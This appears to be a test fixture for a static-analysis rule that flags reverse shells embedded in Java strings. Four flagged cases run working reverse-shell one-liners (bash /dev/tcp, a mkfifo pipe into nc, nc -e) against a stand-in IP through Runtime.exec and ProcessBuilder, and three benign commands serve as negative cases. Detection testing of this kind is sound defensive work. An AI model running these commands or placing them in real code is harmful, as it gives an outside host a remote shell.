import java.io.IOException;

class Unit {
    // ruleid: java-reverse-shell-in-string
    static final String LINE = "exec 7<>/dev/tcp/198.51.100.3/8443; sh <&7 >&7";

    void first(String host) throws IOException {
        // ruleid: java-reverse-shell-in-string
        Runtime.getRuntime().exec(new String[] {"bash", "-c", "bash -i >& /dev/tcp/198.51.100.3/443 0>&1"});
    }

    void second() throws IOException {
        // ruleid: java-reverse-shell-in-string
        new ProcessBuilder("sh", "-c", "mkfifo /var/tmp/q; sh -i </var/tmp/q 2>&1 | nc 198.51.100.3 9001 >/var/tmp/q").start();
    }

    void third() throws IOException {
        // ruleid: java-reverse-shell-in-string
        Runtime.getRuntime().exec("nc 198.51.100.3 9001 -e /bin/bash");
    }

    void open() throws IOException {
        // ok: java-reverse-shell-in-string
        Runtime.getRuntime().exec("nc -z -w 2 localhost 80");
    }

    void sorted() throws IOException {
        // ok: java-reverse-shell-in-string
        new ProcessBuilder("sh", "-c", "ls | sort").start();
    }

    String help() {
        // ok: java-reverse-shell-in-string
        return "The port is open: telnet to it and press return.";
    }
}
